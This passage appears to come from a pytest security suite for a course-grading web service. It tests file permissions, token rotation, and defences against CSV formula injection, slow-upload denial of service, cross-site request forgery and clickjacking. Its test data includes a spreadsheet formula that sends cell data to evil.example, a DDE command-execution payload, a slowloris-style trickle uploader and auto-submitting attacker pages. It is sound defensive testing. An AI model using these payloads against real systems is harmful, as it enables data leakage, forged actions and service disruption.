            assert post_zip(other, zip_of({"prng.py": PRNG})).status_code == 202
    finally:
        course.stop()


def test_data_folder_and_sqlite_files_are_private_under_umask_022(tmp_path):
    data = tmp_path / "fresh" / "data"
    course = new_course(tmp_path / "fresh", JAXLINGS_DATA_DIR=str(data))
    old = os.umask(0o022)
    try:
        course.serve()
    finally:
        os.umask(old)
    try:
        with api(course, course.token("modes")) as client:  # the honest twin: the service works
            assert post_zip(client, zip_of({"prng.py": PRNG})).status_code == 202
        assert data.stat().st_mode & 0o777 == 0o700, oct(data.stat().st_mode)
        databases = [p for p in data.rglob("*") if p.is_file() and ".db" in p.name]
        assert any(p.name == "jaxlings.db" for p in databases), list(data.iterdir())
        loose = [f"{p.name} {oct(p.stat().st_mode & 0o777)}" for p in databases if p.stat().st_mode & 0o077]
        assert not loose, loose
    finally:
        course.stop()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1",
    "@SUM(1)",
    "-2+3",
    "=1+1",
    "\t=cmd|' /C calc'!A0",
]


@pytest.mark.slow
def test_csv_cells_from_roster_names_are_neutralised(tmp_path):
    course = new_course(tmp_path / "csv")
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["login", "name", "email"])
        writer.writerow(["ada", "Ada Lovelace", "ada@example.org"])  # the honest twin
        for i, name in enumerate(FORMULAS):
            writer.writerow([f"s{i}", name, f"s{i}@example.org"])
        writer.writerow(["=evil-login", "Plain", "@evil.example"])
    env = {**os.environ, **course.env}
    done = subprocess.run(
        GRADE + ["course", "add-students", str(roster), "--out", str(tmp_path / "tokens.csv")],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    try:
        course.serve()
        with api(course, course.instructor()) as t:
            r = t.get("/api/gradebook.csv")
        assert r.status_code == 200, r.text
        rows = list(csv.reader(io.StringIO(r.text)))
        live = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not live, live
        assert ["ada", "Ada Lovelace", "ada@example.org"] == rows[[row[0] for row in rows].index("ada")][:3]
        cells = [cell for row in rows for cell in row]
        for name in FORMULAS:  # the text is kept, only defused
            assert any(cell.endswith(name.strip()) for cell in cells), name
    finally:
        course.stop()


# ================================================================= tokens


def course_cli(course, *args: str) -> str:
    """`grade course ARGS` with the course's environment; its output (the command must succeed)."""
    done = subprocess.run(
        GRADE + ["course", *args], env={**os.environ, **course.env}, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def new_token_in(output: str) -> str:
    match = re.search(r"jxl_[A-Za-z0-9_-]{20,}", output)
    assert match, output
    return match.group(0)


def _opens(course, token: str) -> int:
    with api(course, token) as client:
        return client.get("/api/me").status_code


def _page_opens(course, page: PageSession, path: str) -> bool:
    with plain(course) as client:
        return client.get(path, headers=page.headers(None)).status_code == 200


@pytest.mark.slow
def test_rotate_revoke_and_re_add_end_the_old_token_and_its_sessions(server, tmp_path):
    login = f"lifecycle-{server.port}"
    old = server.token(login)
    page = log_in(server, old)
    assert _opens(server, old) == 200 and _page_opens(server, page, "/me")
    new = new_token_in(course_cli(server, "rotate-token", login))
    assert _opens(server, old) == 401 and not _page_opens(server, page, "/me")
    assert _opens(server, new) == 200
    fresh = log_in(server, new)
    assert _page_opens(server, fresh, "/me")
    course_cli(server, "revoke", login)
    assert _opens(server, new) == 401 and not _page_opens(server, fresh, "/me")
    with api(server, new) as client:
        assert post_zip(client, zip_of({"prng.py": PRNG})).status_code == 401

    roster = tmp_path / "roster.csv"
    roster.write_text(f"login,name,email\n{login},Again,\n")
    course_cli(server, "add-students", str(roster), "--out", str(tmp_path / "t1.csv"))
    first = next(csv.DictReader(open(tmp_path / "t1.csv")))["token"]
    assert _opens(server, first) == 200
    course_cli(server, "add-students", str(roster), "--out", str(tmp_path / "t2.csv"))
    second = next(csv.DictReader(open(tmp_path / "t2.csv")))["token"]
    assert _opens(server, first) == 401 and _opens(server, second) == 200


def test_instructor_tokens_rotate_and_revoke_too(server):
    label = f"ta-{server.port}"
    old = new_token_in(course_cli(server, "add-instructor", label))
    page = log_in(server, old)
    assert _page_opens(server, page, "/gradebook")
    new = new_token_in(course_cli(server, "rotate-token", "--instructor", label))
    assert _opens(server, old) == 401 and not _page_opens(server, page, "/gradebook")
    with api(server, new) as t:
        assert t.get("/api/gradebook.csv").status_code == 200
    course_cli(server, "revoke", "--instructor", label)
    assert _opens(server, new) == 401


# ================================================================= denial of service (light)


def still_open(s: socket.socket) -> bool:
    """Whether the server has neither answered nor closed this connection."""
    s.setblocking(False)
    try:
        s.recv(1)
        return False
    except BlockingIOError:
        return True
    finally:
        s.setblocking(True)


def trickle(port: int, token: str, stop: threading.Event, opened: list) -> None:
    """An upload whose body comes at two bytes a second, until `stop`."""
    s = socket.create_connection(("127.0.0.1", port), timeout=60)
    opened.append(s)
    s.sendall(
        (
            f"POST /api/submissions HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {token}\r\n"
            "Content-Type: application/zip\r\nContent-Length: 100000\r\n\r\n"
        ).encode()
    )
    while not stop.wait(0.5):
        try:
            s.send(b"P")
        except OSError:
            return


@pytest.mark.slow
def test_slow_uploads_hold_no_database_connection(tmp_path):
    """16 uploads trickling in: health, another student's read and the CSV still answer quickly."""
    course = new_course(tmp_path / "slow", JAXLINGS_BODY_TIMEOUT="300")
    course.serve()
    stop, opened = threading.Event(), []
    try:
        slow_token = course.token("slowpoke")
        reader_token, sub = a_submission(course, "reader")
        prof = course.instructor()

        def checks() -> dict[str, float]:
            took = {}
            with api(course, reader_token) as s, api(course, prof) as t, plain(course) as p:
                for name, call in (
                    ("health", lambda: p.get("/api/health", timeout=15)),
                    ("read", lambda: s.get(f"/api/submissions/{sub}", timeout=15)),
                    ("csv", lambda: t.get("/api/gradebook.csv", timeout=15)),
                ):
                    began = time.monotonic()
                    assert call().status_code == 200, name
                    took[name] = time.monotonic() - began
            return took

        calm = checks()
        threads = [
            threading.Thread(target=trickle, args=(course.port, slow_token, stop, opened), daemon=True)
            for _ in range(16)
        ]
        for thread in threads:
            thread.start()
        time.sleep(3)  # all 16 are past their headers, sending their bodies
        under = [checks() for _ in range(3)]
        worst = max(t for round_ in under for t in round_.values())
        print(f"alone: {calm}; beside 16 slow uploads: {under}")
        assert worst < 10, (calm, under)  # before: each timed out (30 s pool wait)
        assert len(opened) == 16 and sum(still_open(s) for s in opened) == 16  # the attack was real
        with api(course, slow_token) as client:  # the slow student, sending normally, is served
            assert post_zip(client, zip_of({"prng.py": PRNG})).status_code == 202
    finally:
        stop.set()
        for s in opened:
            s.close()
        course.stop()


# ================================================================= in a real browser


@pytest.fixture(scope="module")
def chromium():
    with headless_chromium() as browser:
        yield browser


class EvilSite:
    """A site on another loopback port serving fixed pages (the attacker's)."""

    def __init__(self, pages: dict[str, str]):
        pages_ = pages

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = pages_.get(self.path.split("?")[0], "not here").encode()
                self.send_response(200 if self.path.split("?")[0] in pages_ else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def evil_pages(service: str) -> dict[str, str]:
    """Auto-submitting forms at the service (a file set by script, as a page can), and a frame of it."""
    planted = base64.b64encode(zip_of({"prng.py": PRNG + b"\n# planted by evil\n"})).decode()
    auto = "<script>document.forms[0].submit()</script>"
    return {
        "/upload.html": f"""<form method="post" action="{service}/me/submit" enctype="multipart/form-data">
            <input type="file" name="file" id="f"><input type="hidden" name="csrf" value="guess"></form>
            <script>
            const bytes = Uint8Array.from(atob("{planted}"), c => c.charCodeAt(0));
            const dt = new DataTransfer();
            dt.items.add(new File([bytes], "mine.zip", {{type: "application/zip"}}));
            document.getElementById("f").files = dt.files;
            document.forms[0].submit();
            </script>""",
        "/regrade.html": f"""<form method="post" action="{service}/gradebook/regrade">
            <input type="hidden" name="what" value="all"></form>{auto}""",
        "/api.html": f"""<form method="post" action="{service}/api/regrade?all=true"></form>{auto}""",
        "/frame.html": f"""<iframe id="victim" src="{service}/gradebook" width="600" height="300"></iframe>
            <iframe id="own" src="/own.html" width="300" height="100"></iframe>""",
        "/own.html": """<table id="gradebook"><tr><td>the attacker's own page frames fine</td></tr></table>""",
    }


def browser_log_in(context, url: str, token: str):
    page = context.new_page()
    page.set_default_timeout(30_000)
    page.goto(f"{url}/login")
    page.fill("#token", token)
    page.click("#login")
    return page


def _posted_to(page, url: str, service: str) -> int:
    """Open an attacker's page; the status of the service's answer to its auto-submitted form.

    The form did carry the victim's session cookie (another port of 127.0.0.1 is the same site, so
    SameSite=Strict does not stop it): only the Origin check and the CSRF token do.
    """
    with page.expect_response(lambda r: r.url.startswith(service) and r.request.method == "POST") as answer:
        page.goto(url, wait_until="commit")
    page.wait_for_url(lambda u: u.startswith(service))  # the victim's tab landed on the service's answer
    page.wait_for_load_state("load")
    assert f"{SESSION}=" in answer.value.request.all_headers().get("cookie", ""), "the attack sent no cookie"
    return answer.value.status


@pytest.mark.slow
def test_in_chromium_a_page_elsewhere_cannot_act_for_the_logged_in_victim(live, chromium, tmp_path):
    evil = EvilSite(evil_pages(live.url))
    try:
        student = chromium.new_context()
        page = browser_log_in(student, live.url, live.token("chromium-student"))
        assert page.url.endswith("/me")
        assert _posted_to(page, f"{evil.url}/upload.html", live.url) == 403
        assert submissions_of(live, "chromium-student") == 0

        _, sub = a_submission(live, "chromium-graded")
        mark_done(live, sub)
        teacher = chromium.new_context()
        prof = browser_log_in(teacher, live.url, live.instructor())
        assert prof.url.endswith("/gradebook")
        assert _posted_to(prof, f"{evil.url}/regrade.html", live.url) == 403
        assert _posted_to(prof, f"{evil.url}/api.html", live.url) == 401
        assert status_of(live, sub) == "done"

        page.goto(f"{live.url}/me")  # the honest twins, in the same browsers
        upload = tmp_path / "honest.zip"
        upload.write_bytes(zip_of({"prng.py": PRNG + b"\n# honest browser\n"}))
        page.set_input_files("#file", str(upload))
        page.click("#submit")
        assert "/submissions/" in page.url and submissions_of(live, "chromium-student") == 1
        prof.goto(f"{live.url}/gradebook")
        prof.click("#regrade-all")
        prof.click("#confirm")
        assert "Queued" in prof.text_content("#notice") and status_of(live, sub) == "queued"
        student.close()
        teacher.close()
    finally:
        evil.close()


@pytest.mark.slow
def test_the_gradebook_cannot_be_framed(live, chromium):
    prof_token = live.instructor()
    prof = log_in(live, prof_token)
    with plain(live) as client:
        r = client.get("/gradebook", headers=prof.headers(None))
    assert r.status_code == 200 and r.headers.get("x-frame-options", "").upper() == "DENY"
    assert "frame-ancestors 'none'" in r.headers.get("content-security-policy", "")
    evil = EvilSite(evil_pages(live.url))
    try:
        context = chromium.new_context()
        page = browser_log_in(context, live.url, prof_token)
        assert page.locator("#gradebook").count() == 1  # logged in: the content would be there
        page.goto(f"{evil.url}/frame.html", wait_until="load")
        page.frame_locator("#own").locator("#gradebook").wait_for()  # the twin: framing works as such
        time.sleep(1)
        assert page.frame_locator("#victim").locator("#gradebook").count() == 0
        framed = [f for f in page.frames if f.url.startswith(live.url)]
        assert all(f.locator("#gradebook").count() == 0 for f in framed)
        context.close()
    finally:
        evil.close()


def slug(text: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", text.lower()).strip("-")[:40]
